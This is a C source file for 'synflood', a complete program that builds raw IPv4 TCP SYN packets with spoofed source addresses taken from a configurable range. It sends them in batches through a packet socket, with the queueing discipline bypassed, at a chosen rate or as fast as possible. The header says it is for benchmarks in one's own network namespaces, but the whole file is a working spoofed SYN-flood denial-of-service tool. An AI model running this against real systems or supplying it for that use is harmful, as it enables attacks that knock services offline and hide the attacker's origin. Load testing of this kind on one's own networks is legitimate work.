/*
 * synflood - send TCP SYNs to one address and port from many sources, as fast as asked or as it
 * goes.
 *
 *   synflood DEVICE GATEWAY-MAC FIRST-SOURCE COUNT DESTINATION PORT SECONDS [PER-SECOND]
 *
 * Sources are FIRST-SOURCE and the COUNT - 1 addresses behind it, in an order that is not theirs;
 * IPv4. Prints the packets that were sent. For benchmarks in network namespaces of one's own.
 *
 * Diagnostics: standard error, exit 1. Known gaps: no IPv6.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

struct frame {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static int complain(const char *what)
{
	(void)fprintf(stderr, "synflood: %s: %s\n", what, errno ? strerror(errno) : "not valid");
	return 1;
}

static double now(void)
{
	struct timespec t;
	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum(const void *data, size_t len, uint32_t s)
{
	const uint8_t *p = data;
	for (size_t i = 0; i + 1 < len; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static void fill(struct frame *f, uint32_t src, uint32_t dst, uint16_t dport, uint32_t n)
{
	*f = (struct frame){.ip = {.version = 4,
				   .ihl = 5,
				   .tot_len = htons(sizeof *f),
				   .frag_off = htons(IP_DF),
				   .ttl = 64,
				   .protocol = IPPROTO_TCP,
				   .saddr = htonl(src),
				   .daddr = dst},
			    .tcp = {.source = htons((uint16_t)(1024 + n % 60000)),
				    .dest = htons(dport),
				    .seq = htonl(n),
				    .doff = 5,
				    .syn = 1,
				    .window = 0xffff}};
	f->ip.check = fold(sum(&f->ip, sizeof f->ip, 0));
	f->tcp.check =
	    fold(sum(&f->ip.saddr, 8, sum(&f->tcp, sizeof f->tcp, IPPROTO_TCP + sizeof f->tcp)));
}

static int open_link(const char *device, const char *mac, struct sockaddr_ll *to)
{
	unsigned m[6];
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0), one = 1;
	if (fd < 0)
		return -1;
	*to = (struct sockaddr_ll){.sll_family = AF_PACKET,
				   .sll_protocol = htons(ETH_P_IP),
				   .sll_ifindex = (int)if_nametoindex(device),
				   .sll_halen = 6};
	if (to->sll_ifindex == 0 ||
	    sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return -1;
	for (size_t i = 0; i < 6; i++)
		to->sll_addr[i] = (uint8_t)m[i];
	(void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
	return fd;
}

/* A step that has no divisor in common with the count visits every source once a round. */
static uint32_t stride(uint32_t count)
{
	uint32_t step = count > 2 ? (uint32_t)((double)count * 0.618) : 1;
	for (;; step++) {
		uint32_t a = count, b = step;
		while (b) {
			uint32_t r = a % b;
			a = b;
			b = r;
		}
		if (a == 1)
			return step;
	}
}

int main(int argc, char **argv)
{
	static struct frame frames[BATCH];
	static struct iovec iov[BATCH];
	static struct mmsghdr msgs[BATCH];
	struct in_addr first, dst;
	struct sockaddr_ll to;
	if (argc < 8) {
		(void)fputs("usage: synflood DEVICE GATEWAY-MAC FIRST-SOURCE COUNT DESTINATION "
			    "PORT SECONDS "
			    "[PER-SECOND]\n",
			    stderr);
		return 64;
	}
	errno = 0;
	if (inet_pton(AF_INET, argv[3], &first) != 1 || inet_pton(AF_INET, argv[5], &dst) != 1)
		return complain("an address");
	int fd = open_link(argv[1], argv[2], &to);
	if (fd < 0)
		return complain(argv[1]);
	uint32_t count = (uint32_t)strtoul(argv[4], NULL, 10), at = 0,
		 step = stride(count ? count : 1);
	uint16_t port = (uint16_t)strtoul(argv[6], NULL, 10);
	double seconds = strtod(argv[7], NULL), rate = argc > 8 ? strtod(argv[8], NULL) : 0,
	       begin = now();
	uint64_t sent = 0;
	for (size_t i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){&frames[i], sizeof frames[i]};
		msgs[i].msg_hdr = (struct msghdr){&to, sizeof to, &iov[i], 1, NULL, 0, 0};
	}
	for (double t = begin; t - begin < seconds; t = now()) {
		if (rate > 0 && (double)sent > (t - begin) * rate) {
			const struct timespec pause = {0, 200000};
			(void)nanosleep(&pause, NULL);
			continue;
		}
		for (size_t i = 0; i < BATCH; i++) {
			fill(&frames[i], ntohl(first.s_addr) + at, dst.s_addr, port,
			     (uint32_t)sent + (uint32_t)i);
			at = (uint32_t)(((uint64_t)at + step) % (count ? count : 1));
		}
		int n = sendmmsg(fd, msgs, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			return complain("sendmmsg");
		if (n > 0)
			sent += (uint64_t)n;
	}
	(void)printf("%llu\n", (unsigned long long)sent);
	return 0;
}
